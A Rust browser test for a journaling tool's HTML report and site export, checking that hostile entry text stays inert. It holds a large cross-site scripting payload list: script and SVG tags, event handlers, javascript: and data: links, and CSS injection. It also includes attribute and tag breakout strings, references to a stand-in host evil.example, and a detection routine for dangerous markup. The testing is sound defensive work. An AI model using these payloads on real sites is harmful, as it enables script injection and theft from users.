//! The report and the site of `export --format html` in a real browser: nothing in an entry becomes more than text.

use std::path::Path;

use crate::browser::Browser;
use crate::workspace::TestWorkspace;

/// What runs where it is taken for markup.
const SCRIPTS: [&str; 15] = [
    "<script>window.owned=1;alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=\"window.owned=1;alert(1)\">",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=window.owned=1;alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe>",
    "<object data=https://evil.example/x></object>",
    "<a href=javascript:alert(1)>rain</a>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example/><input autofocus onfocus=alert(1)></form>",
];

/// How a text may get out of where it stands.
const WAYS_OUT: [&str; 13] = [
    "",
    "\">",
    "'>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus x='",
    "</title>",
    "</style>",
    "</text></svg>",
    "</td></tr></table>",
    "-->",
    "]]>",
    "</p></li></ul></main>",
    "\u{0}\u{2028}&quot;&#62;&lt;",
];

/// What does harm as Markdown, as an address or as the text of a style.
const OTHERS: [&str; 16] = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a](//evil.example/x)",
    "[a](file:///etc/passwd)",
    "![a](https://evil.example/pixel.png)",
    "![a](x\"onerror=\"alert(1))",
    "<javascript:alert(1)>",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "[a](https://example.org/\"onclick=\"alert(1))",
    "{{constructor.constructor('alert(1)')()}}",
    "url(https://evil.example/x)",
    "red;background:url(https://evil.example/x)",
    "expression(alert(1))",
];

fn payloads() -> Vec<String> {
    let with = |way: &'static str| SCRIPTS.into_iter().map(move |it| format!("{way}{it}"));
    let mut payloads: Vec<String> = WAYS_OUT.into_iter().flat_map(with).collect();
    payloads.extend(OTHERS.map(str::to_owned));
    payloads
}

/// Elements and attributes that neither page writes, and addresses that lead to no page.
const FOREIGN: &str = r"(() => {
    const wrong = [];
    const elements = 'script, iframe, frame, object, embed, form, input, button, base, link, img, image, video, audio, ' +
        'source, animate, set, use, foreignObject, math, template, noscript, meta[http-equiv=refresh]';
    for (const it of document.querySelectorAll(elements)) wrong.push(it.outerHTML.slice(0, 200));
    for (const it of document.querySelectorAll('*')) {
        for (const { name, value } of it.attributes) {
            const isAddress = /^(href|src|xlink:href)$/.test(name) && /^\s*(javascript|data|vbscript|file|\/\/)/i.test(value);
            if (/^on|^(srcdoc|formaction|action|background)$/.test(name) || /url\(/.test(name == 'style' ? value : '') || isAddress) {
                wrong.push(`${it.tagName} ${name}=${value}`);
            }
        }
    }
    if (window.owned) wrong.push('a script ran');
    return wrong.join('\n');
})()";

fn is_harmless(browser: &mut Browser, page: &Path) {
    browser.open(page);
    let foreign = browser.evaluate(FOREIGN);
    assert_eq!(foreign, "", "{}", page.display());
    assert!(browser.complaints.is_empty(), "{}: {:#?}", page.display(), browser.complaints);
}

/// A journal in which each payload stands wherever a writer may write.
fn hostile() -> TestWorkspace {
    let workspace = TestWorkspace::new();
    workspace.config(
        "journal = \"journal\"\n[fields.weather]\n[fields.projects]\ntype = \"list\"\n[fields.rating]\ntype = \"text\"\n",
    );
    for (number, payload) in payloads().iter().enumerate() {
        let quoted = serde_json::to_string(payload).unwrap();
        let inside = quoted.trim_matches('"').to_owned();
        let entry = format!(
            "---\ndate: 2025-{:02}-{:02}\ntitle: {quoted}\ntags: [{quoted}]\npeople: [{quoted}]\nmood: {{name: {quoted}, scale: 5}}\n\
             location: {{name: {quoted}, city: {quoted}, country: \"{inside}\", lat: {number}.5, lon: -{number}.25}}\n\
             weather: {quoted}\nprojects: [{quoted}]\nrating: {quoted}\nodd: {quoted}\n---\n{payload}\n\n# {payload}\n\n* {payload}\n",
            number % 12 + 1,
            number % 28 + 1,
        );
        // A name may hold all but a slash and NUL.
        let name: String =
            payload.chars().filter(|it| !matches!(it, '/' | '\0')).take(60).collect();
        workspace.write(&format!("2025/{number} {}.md", name.trim()), &entry);
    }
    workspace.run("migration create 'Fields'").is_clean();
    let status = workspace.run("sync").output.status.code();
    assert!(matches!(status, Some(0 | 1)), "{status:?}");
    workspace
}

#[test]
fn the_browser_tells_of_all_that_a_page_should_not_do() {
    let Some(mut browser) = Browser::start() else { return };
    let folder = tempfile::tempdir().unwrap();
    let page = folder.path().join("a.html");
    std::fs::write(&page, format!("<script>console.log(1)</script>{}<b onclick=x>", SCRIPTS[2]))
        .unwrap();
    browser.open(&page);
    let foreign = browser.evaluate(FOREIGN);
    for told in ["<script>", "<img", "B onclick=x", "a script ran"] {
        assert!(foreign.as_str().unwrap().contains(told), "{told}: {foreign}");
    }
    let complaints = browser.complaints.join("\n");
    for told in ["a dialog", "consoleAPICalled", "requestWillBeSent"] {
        assert!(complaints.contains(told), "{told}: {complaints}");
    }
}

#[test]
fn nothing_in_an_entry_becomes_more_than_text() {
    assert!(payloads().len() > 200);
    let Some(mut browser) = Browser::start() else { return };
    let workspace = hostile();
    let counted =
        workspace.query("SELECT count(*), count(title), count(weather) FROM entries").text;
    let all = payloads().len();
    assert_eq!(counted, format!("{all}|{all}|{all}"));
    let title = SCRIPTS[0].to_owned() + "</title>" + SCRIPTS[2];
    workspace.run(&format!("report --title '{}'", title.replace('\'', "`"))).is_clean();
    is_harmless(&mut browser, &workspace.path("journal-report.html"));
    assert_eq!(browser.evaluate("document.title"), title);
    workspace.run("export --format html site").is_clean();
    is_harmless(&mut browser, &workspace.path("site/index.html"));
    for folder in ["site/years", "site/entries"] {
        for name in workspace.list(folder) {
            is_harmless(&mut browser, &workspace.path(folder).join(name));
        }
    }
}

#[test]
fn a_screen_reader_finds_its_way_through_both() {
    let Some(mut browser) = Browser::start() else { return };
    let workspace = crate::docs::sample();
    workspace.run("report").is_clean().run("export --format html site").is_clean();
    for page in ["journal-report.html", "site/index.html", "site/entries/1.html"] {
        is_harmless(&mut browser, &workspace.path(page));
        let nodes = browser.nodes();
        let of = |role: &str| nodes.iter().filter(|it| it.0 == role).collect::<Vec<_>>();
        assert_eq!(of("main").len(), 1, "{page}");
        for role in ["heading", "link", "image", "table", "navigation", "columnheader"] {
            let nameless = of(role).iter().filter(|it| it.1.trim().is_empty()).count();
            assert_eq!(nameless, 0, "{page}: {role} without a name");
        }
        assert_eq!(browser.evaluate("document.querySelectorAll('h1').length"), 1, "{page}");
        assert_eq!(
            browser.evaluate("document.documentElement.lang").as_str().map(str::len),
            Some(2)
        );
        let leading_nowhere = browser.evaluate(
            "[...document.querySelectorAll('a[href^=\"#\"]')].filter(it => !document.getElementById(it.getAttribute('href').slice(1))).length",
        );
        assert_eq!(leading_nowhere, 0, "{page}");
    }
    browser.open(&workspace.path("journal-report.html"));
    // Each picture has its name, what it shows in words, and its numbers in a table.
    let pictures = browser.evaluate(
        "[...document.querySelectorAll('figure')].filter(it => it.querySelector('svg')).map(it => \
         [it.querySelector('svg title'), it.querySelector('svg desc'), it.querySelector('table')].every(Boolean))",
    );
    let pictures = pictures.as_array().unwrap();
    assert!(pictures.len() > 5 && pictures.iter().all(|it| it == true), "{pictures:?}");
}
